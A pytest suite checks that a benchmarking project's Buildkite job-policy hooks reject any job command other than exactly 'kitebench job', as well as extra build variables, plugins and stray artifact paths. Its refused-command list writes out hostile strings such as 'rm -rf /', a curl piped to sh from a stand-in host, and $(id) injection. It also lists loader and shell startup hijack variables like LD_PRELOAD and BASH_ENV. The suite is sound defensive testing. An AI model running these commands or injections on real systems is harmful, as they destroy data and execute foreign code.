"""The job policy hooks (pre-bootstrap and pre-command, one rendered script) run by real bash
against crafted jobs: the environment file the agent writes (``BUILDKITE_ENV_FILE``, one
``KEY="value"`` line per variable, Go-quoted) and, for pre-command, the job's own environment.

The agent binary cannot run here; the hook's two calling conventions are reproduced instead:
pre-bootstrap is executed with the agent's environment, pre-command is sourced by the job's
shell. What the project's own pipeline and ``kitebench submit`` produce must pass; everything
else that could run other code on the host must be refused with one line on stderr.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
import yaml

from host.pipeline import render_pipeline, upload_pipeline
from host.provision.plan import GpuInfo, KitSettings, plan_gpus
from host.provision.render import write_files
from host.provision.templates import ALLOWED_COMMAND, POLICY_HOOKS, render_files, render_hook
from launcher.gpus import load_registry
from tests.common import REPO

BASH = "/bin/bash"
#: What Buildkite itself puts into a kitebench job (a trimmed but realistic set).
BUILDKITE_ENV = {
    "BUILDKITE": "true",
    "CI": "true",
    "BUILDKITE_JOB_ID": "0190b6f5-7c1e-4d7a-9d3e-5f0a1b2c3d4e",
    "BUILDKITE_BUILD_NUMBER": "42",
    "BUILDKITE_REPO": "https://example.invalid/kitebench.git",
    "BUILDKITE_LABEL": ":zap: kitebench job",
    "BUILDKITE_ARTIFACT_PATHS": "result.json",
    "BUILDKITE_RETRY_COUNT": "0",
    "BUILDKITE_COMMAND": ALLOWED_COMMAND,
}
#: What `kitebench submit` sets as the build's env.
SUBMIT_ENV = {
    "SUBMISSION_PAYLOAD": "eJy9VE1v2zAM/S8+G0j6sR1yK4YeBq",
    "GPU_QUEUE": "h100",
    "KITEBENCH_ID": "5b0c2f0f6a3e4f7e8a9b0c1d2e3f4a5b",
}


def go_quote(value: str) -> str:
    """Like Go's %q for the values a job carries: JSON's escapes, printable text kept as is."""
    return json.dumps(value, ensure_ascii=False)


@pytest.fixture(scope="module")
def hooks(tmp_path_factory) -> Path:
    """The hooks as `kitebench vendor render` writes them."""
    root = tmp_path_factory.mktemp("host")
    plans = plan_gpus(
        [GpuInfo(index=0, uuid="GPU-visible-0", name="h100")],
        queue_for={0: "h100"},
        cpu_pool=[0, 1],
        memtotal_mib=8192,
    )
    write_files(root, render_files(KitSettings(), plans), plans)
    return root / "etc/kitebench/hooks"


class Job:
    """One crafted job: its env file, and both ways the agent runs the hook."""

    def __init__(self, tmp: Path, env: dict[str, str], *, lines: list[str] | None = None) -> None:
        self.env = env
        self.env_file = tmp / "job-env"
        text = "".join(f"{k}={go_quote(v)}\n" for k, v in env.items())
        self.env_file.write_text(text + "".join(line + "\n" for line in lines or []))

    def pre_bootstrap(self, hooks: Path) -> subprocess.CompletedProcess:
        # Executed by the agent with ITS environment (nothing of the job) + BUILDKITE_ENV_FILE.
        agent_env = {"PATH": "/usr/bin:/bin", "BUILDKITE_ENV_FILE": str(self.env_file)}
        return subprocess.run(
            [str(hooks / "pre-bootstrap")],
            env=agent_env,
            capture_output=True,
            text=True,
            timeout=30,
        )

    def pre_command(self, hooks: Path, **override: str) -> subprocess.CompletedProcess:
        # Sourced by the job's shell (the agent's hook wrapper), whose env is the job's, with a
        # PATH that leads nowhere: the hook must need nothing but bash builtins.
        job_env = {
            **self.env,
            **override,
            "PATH": "/nonexistent",
            "BUILDKITE_ENV_FILE": str(self.env_file),
        }
        script = f'set -e\n. {hooks / "pre-command"}\necho "command runs"; declare -F; compgen -v kitebench_ || true'
        return subprocess.run(
            [BASH, "-c", script], env=job_env, capture_output=True, text=True, timeout=30
        )


def refused(proc: subprocess.CompletedProcess, *words: str) -> bool:
    lines = proc.stderr.splitlines()
    return (
        proc.returncode == 1
        and len(lines) == 1
        and "refusing this job" in lines[0]
        and all(w in lines[0] for w in words)
        and "command runs" not in proc.stdout
    )


def test_the_projects_own_job_runs(hooks, tmp_path):
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV})
    boot = job.pre_bootstrap(hooks)
    assert boot.returncode == 0 and boot.stderr == "", boot.stderr
    cmd = job.pre_command(hooks)
    assert cmd.returncode == 0 and cmd.stderr == "", cmd.stderr
    # Sourced into the job's shell, the hook leaves nothing behind: no variables, no functions.
    assert cmd.stdout == "command runs\n", cmd.stdout


def test_both_hooks_are_one_script_and_the_template_is_plain_bash():
    texts = {render_hook(h, KitSettings()) for h in POLICY_HOOKS}
    assert len(texts) == 1
    raw = (REPO / "systemd/templates/hooks/job-policy.j2").read_text()
    assert texts == {raw}  # no Jinja in it: what the file says is what runs
    subprocess.run([BASH, "-n", "-c", raw], check=True)


def test_the_allowed_command_is_the_pipelines():
    """pipeline.yml and `kitebench pipeline render` run exactly the command the hook allows."""
    steps = yaml.safe_load((REPO / "pipeline.yml").read_text())["steps"]
    steps += upload_pipeline()["steps"] + render_pipeline(load_registry())["steps"]
    assert {s["command"] for s in steps} == {ALLOWED_COMMAND}
    assert {s["artifact_paths"] for s in steps} == {"result.json"}
    assert not any("plugins" in s or "env" in s for s in steps)
    assert f"BUILDKITE_COMMAND={go_quote(ALLOWED_COMMAND)}" in render_hook(
        "pre-command", KitSettings()
    )


REFUSED_COMMANDS = [
    "kitebench job; rm -rf /",
    "kitebench job && curl -s https://example.invalid/x | sh",
    "kitebench job || true",
    "kitebench job &",
    "kitebench job\nrm -rf ~",
    "kitebench job\n",
    "rm -rf ~\nkitebench job",
    " kitebench job",
    "kitebench job ",
    "kitebench  job",
    "kitebench\tjob",
    "kitebench job # comment",
    "kitebench job $(id)",
    "kitebench job `id`",
    "kitebench job > /etc/passwd",
    "kitebench jobs",
    "kitebench job --no-publish",
    "kitebench",
    "KITEBENCH_IMAGE=evil kitebench job",
    "env PATH=/tmp kitebench job",
    "/tmp/kitebench job",
    "./kitebench job",
    "bash -c 'kitebench job'",
    "eval kitebench job",
    "kitebench job\r",
    "Kitebench job",
    "",
]


@pytest.mark.parametrize("command", REFUSED_COMMANDS, ids=repr)
def test_any_other_command_is_refused(hooks, tmp_path, command):
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV, "BUILDKITE_COMMAND": command})
    assert refused(job.pre_bootstrap(hooks), "not exactly `kitebench job`")
    assert refused(job.pre_command(hooks), "not exactly `kitebench job`")


def test_the_command_about_to_run_is_checked_too(hooks, tmp_path):
    """Should the job's command differ from what the agent was sent, pre-command still refuses."""
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV})
    assert refused(job.pre_command(hooks, BUILDKITE_COMMAND="kitebench job; id"), "kitebench job")


@pytest.mark.parametrize(
    "name",
    [
        "PATH",
        "LD_PRELOAD",
        "LD_LIBRARY_PATH",
        "BASH_ENV",
        "ENV",
        "SHELLOPTS",
        "PS4",
        "BASH_FUNC_kitebench%%",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONWARNINGS",
        "DOCKER_HOST",
        "HOME",
        "KITEBENCH_IMAGE",
        "KITEBENCH_GPU_UUID",
        "KITEBENCH_CONTAINER_USER",
        "KITEBENCH_MODELS_DIR",
        "KITEBENCH_RUNNER_X",
    ],
)
def test_build_env_beyond_what_submit_sets_is_refused(hooks, tmp_path, name):
    """A build's env overrides the agent's own for the job: PATH, the loader, bash and Python
    start-up, docker, and the KITEBENCH_* isolation settings of the drop-in."""
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV, name: "/tmp/evil"})
    assert refused(job.pre_bootstrap(hooks), "environment variable", name.replace("%", ""))


def test_an_odd_variable_name_is_reported_on_one_line(hooks, tmp_path):
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV, "X\x1b[2Jy": "1"})
    proc = job.pre_bootstrap(hooks)
    assert refused(proc, "environment variable") and "\x1b" not in proc.stderr


@pytest.mark.parametrize(
    ("env", "words"),
    [
        ({"BUILDKITE_PLUGINS": '[{"github.com/x/evil-buildkite-plugin#v1.0.0":{}}]'}, "plugins"),
        ({"BUILDKITE_ARTIFACT_PATHS": "/etc/**"}, "artifacts"),
        ({"BUILDKITE_ARTIFACT_PATHS": "result.json;../../**"}, "artifacts"),
    ],
)
def test_plugins_and_other_artifacts_are_refused(hooks, tmp_path, env, words):
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV, **env})
    assert refused(job.pre_bootstrap(hooks), words)
    assert refused(job.pre_command(hooks), words)


def test_no_plugins_is_fine(hooks, tmp_path):
    for value in ("", "[]"):
        job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV, "BUILDKITE_PLUGINS": value})
        assert job.pre_bootstrap(hooks).returncode == 0


def test_a_job_without_exactly_one_command_is_refused(hooks, tmp_path):
    env = {k: v for k, v in {**BUILDKITE_ENV, **SUBMIT_ENV}.items() if k != "BUILDKITE_COMMAND"}
    assert refused(Job(tmp_path, env).pre_bootstrap(hooks), "exactly one command")
    twice = Job(
        tmp_path,
        {**BUILDKITE_ENV, **SUBMIT_ENV},
        lines=[f"BUILDKITE_COMMAND={go_quote(ALLOWED_COMMAND)}"],
    )
    assert refused(twice.pre_bootstrap(hooks), "exactly one command")


def test_no_environment_file_is_refused(hooks, tmp_path):
    job = Job(tmp_path, {**BUILDKITE_ENV, **SUBMIT_ENV})
    job.env_file.unlink()
    assert refused(job.pre_bootstrap(hooks), "BUILDKITE_ENV_FILE")
    proc = subprocess.run(
        [str(hooks / "pre-bootstrap")],
        env={"PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert refused(proc, "BUILDKITE_ENV_FILE")


def test_what_kitebench_submit_sends_passes(hooks, tmp_path):
    """The build env of a real `kitebench submit` (against the stand-in Buildkite API) is
    exactly what the hook and the agent's env allow-list let through."""
    from launcher.buildkite import BuildkiteLauncher
    from launcher.client import BuildkiteClient
    from tests.bk_standin import BuildPlan, StandIn, passing_result

    payload = {
        "lang": "cu",
        "mode": "test",
        "sources": {"submission.cu": "__global__ void k(){}"},
        "tests": [{"size": 128, "seed": 1}],
    }
    with StandIn(time_scale=20.0) as bk:
        bk.planner = lambda body: BuildPlan(result=passing_result(score=1.0))
        client = BuildkiteClient(env=bk.env(), clock=bk.clock.now, sleep=bk.clock.sleep)
        BuildkiteLauncher(client, queue="h100", gpu="H100", arch="90a").run(payload)
        (build,) = bk.builds.values()
        build_env = build.body["env"]
    job = Job(tmp_path, {**BUILDKITE_ENV, **build_env})
    assert job.pre_bootstrap(hooks).returncode == 0
    unit = render_files(KitSettings(), [])[0].content
    allow = next(line for line in unit.splitlines() if "ALLOWED_ENVIRONMENT_VARIABLES=" in line)
    assert sorted(allow.split("=", 2)[2].split(",")) == sorted(f"^{k}$" for k in build_env)


def test_the_ansible_role_installs_the_same_hooks():
    """The role's hook list (vars/main.yml) is the kit's: same names, same templates."""
    from host.provision.templates import HOOK_TEMPLATES

    role_vars = yaml.safe_load((REPO / "ansible/roles/kitebench_agent/vars/main.yml").read_text())
    assert {h["hook"]: h["src"] for h in role_vars["__kitebench_agent_hooks"]} == HOOK_TEMPLATES
